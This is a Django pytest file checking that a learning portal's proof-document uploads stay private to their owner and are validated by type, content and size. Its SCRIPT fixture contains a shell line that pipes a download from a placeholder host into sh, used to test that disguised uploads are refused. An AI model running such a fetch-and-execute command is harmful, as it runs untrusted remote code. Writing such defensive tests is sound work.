"""Learning elsewhere and its proof document are private to their owner: every address of
them sends a visitor to log in and answers anyone else as if it did not exist. A proof is
what it says it is, and a replaced or removed one leaves storage."""

import datetime

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile

from events.models import ExternalLearning
from tests.development_factories import PDF, ExternalLearningFactory
from tests.factories import StaffFactory, UserFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("mid_year")]

ADD = "/mijn-leerhuis/ontwikkeling/elders/nieuw/"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"


def course(**changes):
    return {
        "title": "Leergang Programmamanagement",
        "organiser": "Hogeschool Utrecht",
        "date": "2026-04-02",
        "hours": "24",
        **changes,
    }


def upload(name, content):
    return SimpleUploadedFile(name, content)


def with_proof(owner, name="certificaat.pdf", content=PDF):
    item = ExternalLearningFactory(user=owner, date=datetime.date(2026, 4, 2))
    item.proof.save(name, ContentFile(content))
    return item


def urls_of(item):
    base = f"/mijn-leerhuis/ontwikkeling/elders/{item.pk}/"
    return [base, f"{base}verwijderen/", f"{base}bewijsstuk/"]


# --- who may see it ----------------------------------------------------------------------


def test_anonymous_visitors_are_sent_to_log_in_for_every_address(client):
    item = with_proof(UserFactory())
    for url in [ADD, *urls_of(item)]:
        response = client.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith("/accounts/login/?next=")
    assert client.post(urls_of(item)[1]).status_code == 302
    assert ExternalLearning.objects.filter(pk=item.pk).exists()


@pytest.mark.parametrize("other", [UserFactory, StaffFactory], ids=["colleague", "staff"])
def test_anyone_else_finds_nothing_there(client, other):
    item = with_proof(UserFactory())
    client.force_login(other())
    for url in urls_of(item):
        assert client.get(url).status_code == 404, url
    assert client.post(urls_of(item)[0], course(title="Overgenomen")).status_code == 404
    assert client.post(urls_of(item)[1]).status_code == 404
    item.refresh_from_db()
    assert item.title != "Overgenomen"
    assert "Leergang" not in client.get("/mijn-leerhuis/ontwikkeling/").content.decode()


def test_the_owner_sees_every_address(client):
    owner = UserFactory()
    item = with_proof(owner)
    client.force_login(owner)
    for url in urls_of(item):
        assert client.get(url).status_code == 200, url


def test_a_missing_item_answers_as_someone_elses_does(client):
    client.force_login(UserFactory())
    assert client.get("/mijn-leerhuis/ontwikkeling/elders/987654/bewijsstuk/").status_code == 404


def test_the_proof_is_a_private_download_that_no_cache_keeps(client):
    owner = UserFactory()
    item = with_proof(owner, "Certificaat PMP 2026.pdf")
    client.force_login(owner)
    response = client.get(urls_of(item)[2])
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Certificaat_PMP_2026.pdf" in response["Content-Disposition"]
    cache = response["Cache-Control"]
    assert "private" in cache and "no-store" in cache
    assert b"".join(response.streaming_content) == PDF


def test_an_item_without_proof_has_no_proof_to_fetch(client):
    owner = UserFactory()
    item = ExternalLearningFactory(user=owner)
    client.force_login(owner)
    assert client.get(urls_of(item)[2]).status_code == 404


def test_a_proof_gone_from_storage_is_not_found_rather_than_an_error(client):
    owner = UserFactory()
    item = with_proof(owner)
    item.proof.storage.delete(item.proof.name)
    client.force_login(owner)
    assert client.get(urls_of(item)[2]).status_code == 404


# --- what a proof may be -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("bewijs.pdf", PDF, "application/pdf"),
        ("foto.PNG", PNG, "image/png"),
        ("scan.jpeg", JPEG, "image/jpeg"),
    ],
)
def test_a_pdf_png_or_jpeg_is_kept_under_a_random_folder_with_a_readable_name(
    client, name, content, kind
):
    owner = UserFactory()
    client.force_login(owner)
    response = client.post(ADD, {**course(), "proof": upload(name, content)})
    assert response.status_code == 302
    item = ExternalLearning.objects.get(user=owner)
    folder, _, stored = item.proof.name.rpartition("/")
    assert stored == name.replace(".PNG", ".png")
    assert folder.startswith("ontwikkeling/bewijs/") and len(folder.split("/")[-1]) == 32
    assert client.get(urls_of(item)[2])["Content-Type"] == kind


@pytest.mark.parametrize("name", ["€.pdf", "😀.pdf", "!!!.pdf", "'.pdf"])
def test_a_proof_named_without_letters_is_kept_under_a_plain_name(client, name):
    owner = UserFactory()
    client.force_login(owner)
    response = client.post(ADD, {**course(), "proof": upload(name, PDF)})
    assert response.status_code == 302
    item = ExternalLearning.objects.get(user=owner)
    assert item.proof.name.endswith("/bewijsstuk.pdf")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "certificaat.pdf",
            SCRIPT,
            "Dit bestand is geen echt PDF-bestand; het is niet opgeslagen.",
        ),
        ("foto.png", PDF, "Dit bestand is geen echt PNG-bestand; het is niet opgeslagen."),
        ("scan.jpg", PNG, "Dit bestand is geen echt JPEG-bestand; het is niet opgeslagen."),
        ("installer.exe", PDF, "Dit soort bestand kan hier niet: kies een PDF, PNG of JPEG."),
        ("certificaat", PDF, "Dit soort bestand kan hier niet: kies een PDF, PNG of JPEG."),
        ("leeg.pdf", b"", "Dit bestand is leeg."),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused_and_the_rest_kept(
    client, name, content, message
):
    owner = UserFactory()
    client.force_login(owner)
    response = client.post(ADD, {**course(), "proof": upload(name, content)})
    html = response.content.decode()
    assert response.status_code == 200
    assert message in html
    assert 'value="Leergang Programmamanagement"' in html
    assert "Kies het bestand opnieuw" in html
    assert not ExternalLearning.objects.exists()


def test_a_proof_over_10_mb_is_refused(client):
    client.force_login(UserFactory())
    big = upload("groot.pdf", PDF + b"0" * (10 * 1024 * 1024))
    html = client.post(ADD, {**course(), "proof": big}).content.decode()
    assert "een bewijsstuk mag hooguit 10,0\xa0MB zijn." in html
    assert not ExternalLearning.objects.exists()


# --- replacing and removing --------------------------------------------------------------


def test_a_replaced_proof_leaves_storage(client, django_capture_on_commit_callbacks):
    owner = UserFactory()
    item = with_proof(owner, "oud.pdf")
    old, storage = item.proof.name, item.proof.storage
    client.force_login(owner)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(urls_of(item)[0], {**course(), "proof": upload("nieuw.png", PNG)})
    assert response.status_code == 302
    item.refresh_from_db()
    assert item.proof.name.endswith("/nieuw.png")
    assert storage.exists(item.proof.name)
    assert not storage.exists(old)


def test_a_removed_proof_leaves_storage(client, django_capture_on_commit_callbacks):
    owner = UserFactory()
    item = with_proof(owner)
    old, storage = item.proof.name, item.proof.storage
    client.force_login(owner)
    assert "Bewijsstuk verwijderen" in client.get(urls_of(item)[0]).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(urls_of(item)[0], {**course(), "remove_proof": "on"})
    item.refresh_from_db()
    assert not item.proof
    assert not storage.exists(old)


def test_a_refused_replacement_keeps_the_old_proof(client, django_capture_on_commit_callbacks):
    owner = UserFactory()
    item = with_proof(owner)
    old, storage = item.proof.name, item.proof.storage
    client.force_login(owner)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(urls_of(item)[0], {**course(), "proof": upload("x.pdf", SCRIPT)})
    assert response.status_code == 200
    item.refresh_from_db()
    assert item.proof.name == old and storage.exists(old)


def test_deleting_the_entry_deletes_its_proof(client, django_capture_on_commit_callbacks):
    owner = UserFactory()
    item = with_proof(owner)
    old, storage = item.proof.name, item.proof.storage
    client.force_login(owner)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(urls_of(item)[1])
    assert not storage.exists(old)
